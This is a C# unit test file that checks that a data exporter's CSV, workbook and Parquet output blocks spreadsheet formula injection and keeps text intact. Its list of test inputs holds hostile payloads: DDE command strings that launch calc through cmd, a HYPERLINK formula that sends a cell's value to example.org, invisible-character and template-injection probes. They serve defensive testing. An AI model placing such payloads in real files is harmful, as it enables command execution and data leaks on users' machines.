using System.Text;
using Barometer.Host.Exports;
using CsCheck;

namespace Barometer.Host.Tests.Exports;

/// <summary>Whatever a title says, it comes back as it was and is a formula nowhere.</summary>
public sealed class Hostile_texts
{
    private static readonly string Long = string.Concat(Enumerable.Repeat("Ж😀", 13_333)) + "x";

    private static readonly string[] Texts =
    [
        "=HYPERLINK(\"http://example.org?x=\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠x",
        " =1+1", "\u200B=1", "\uFEFF=1", "\u202E=1", "'=1", "''=1", "'", "'quoted'", "'\t", "-", "+", "=",
        "x;=cmd|' /C calc'!A0", "x;;-1", "x; \"=1", "x;'=1", "x\n=1", "x\r\n\n+1", "x\t@1", "x;＝1", "a; b; c", "a;", ";=1", "two\r\nlines", "one\nline", "\"", "\"\"", ",", "a,b\"c\"", " spaces ", "tab\there", "_x0041_", "_x000D_", "a_x005F_x0041_",
        "\u202Etfel ot thgir\u202C", "\u2066isolated\u2069", "zero\u200Bwidth", "😀👩‍👩‍👧", "e\u0301", "<b>&amp;</b>", "]]>", "{{7*7}}", "1e5", "0012", "2019-11/2019-12", "TRUE", "NULL",
    ];

    [Fact]
    public async Task In_CSV_no_cell_begins_a_formula_and_each_comes_back_as_it_was()
    {
        var cells = NaiveTable.Read(await Invented.Written(ExportFormat.Csv, Table([.. Texts, Long, "bell\a, nul\0"]))).Skip(1).Select(r => r[0]!).ToArray();

        cells.ShouldAllBe(c => !IsFormula(c));
        cells.Select(NaiveTable.AsRecorded).ShouldBe([.. Texts, Long, "bell\a, nul\0"]);
    }

    [Fact]
    public void Any_text_comes_back_out_of_CSV_as_it_was() => Gen.String[Gen.Frequency((3, Gen.Char["=+-@＝＋－＠'\t\r\n \u200B\uFEFF\u202E\",;ax"]), (1, Gen.Char[' ', '\uD7FF'])), 1, 12].Sample(text =>
    {
        var csv = Invented.Written(ExportFormat.Csv, Table([text])).GetAwaiter().GetResult();
        var cell = NaiveTable.Read(csv)[1][0]!;
        return !IsFormula(cell) && !OpenedElsewhere(csv).Any(IsFormulaAfterQuotes) && NaiveTable.AsRecorded(cell) == text;
    });

    [Fact]
    public async Task In_CSV_no_cell_begins_a_formula_where_semicolons_or_tabs_part_cells() =>
        OpenedElsewhere(await Invented.Written(ExportFormat.Csv, Table(Texts))).ShouldAllBe(c => !IsFormulaAfterQuotes(c));

    [Fact]
    public async Task In_CSV_a_number_below_zero_stays_a_number()
    {
        var row = NaiveTable.Read(await Invented.Written(ExportFormat.Csv, Invented.Table(new InventedRow(Number: -9, Exact: -1.5m))))[1];

        (row[1], row[2]).ShouldBe(("-9", "-1.5"));
    }

    [Fact]
    public async Task In_a_workbook_every_text_is_typed_as_text_and_comes_back_as_it_was()
    {
        var workbook = new OpenedWorkbook(await Invented.Written(ExportFormat.Xlsx, Table(Texts)));

        workbook.Formulas.ShouldBe(0);
        var cells = workbook.Sheets["invented"].Skip(1).Select(r => r[0]).ToArray();
        cells.ShouldAllBe(c => c.Type == "inlineStr");
        cells.Select(c => c.Value).ShouldBe(Texts);
    }

    [Fact]
    public async Task What_XML_has_no_character_for_is_seen_to_be_missing_in_a_workbook()
    {
        var workbook = new OpenedWorkbook(await Invented.Written(ExportFormat.Xlsx, Table(["bell\a, nul\0, \uFFFE, half \uD83D here"])));

        workbook.Sheets["invented"][1][0].Value.ShouldBe("bell\uFFFD, nul\uFFFD, \uFFFD, half \uFFFD here");
    }

    [Fact]
    public async Task What_is_longer_than_a_cell_of_a_workbook_is_cut_with_a_word_about_it()
    {
        var cell = new OpenedWorkbook(await Invented.Written(ExportFormat.Xlsx, Table([Long]))).Sheets["invented"][1][0].Value!;

        Long.Length.ShouldBe(40_000);
        cell.Length.ShouldBeInRange(32_766, 32_767);
        cell.ShouldEndWith(" … [cut: 40000 characters, of which a cell holds 32767; CSV and Parquet have them all]");
        Long.ShouldStartWith(cell[..cell.IndexOf(" … [cut", StringComparison.Ordinal)]);
        cell.ShouldNotContain("\uFFFD");
    }

    [Fact]
    public async Task In_Parquet_every_text_is_what_it_was()
    {
        var rows = Duck.Ask(await Invented.Written(ExportFormat.Parquet, Table([.. Texts, Long, "bell\a"])), "select text from $file");

        rows.Select(r => r[0]).ShouldBe([.. Texts, Long, "bell\a"]);
    }

    private static Export Table(string[] texts) => Invented.Table([.. texts.Select(t => new InventedRow(t))]);

    // At the worst no quote holds anything together.
    private static string[] OpenedElsewhere(byte[] csv) => Encoding.UTF8.GetString(csv).Split([';', '\t', '\r', '\n']);

    private static bool IsFormulaAfterQuotes(string cell) => IsFormula(cell.TrimStart(' ', '"', '\u200B', '\uFEFF', '\u202E', '\u2066'));

    // As a spreadsheet sees it that passes over what is not seen.
    private static bool IsFormula(string cell) => "=+-@＝＋－＠\t\r\n".Contains(cell.TrimStart(' ', '\u200B', '\uFEFF', '\u202E', '\u2066').FirstOrDefault('x'), StringComparison.Ordinal);
}
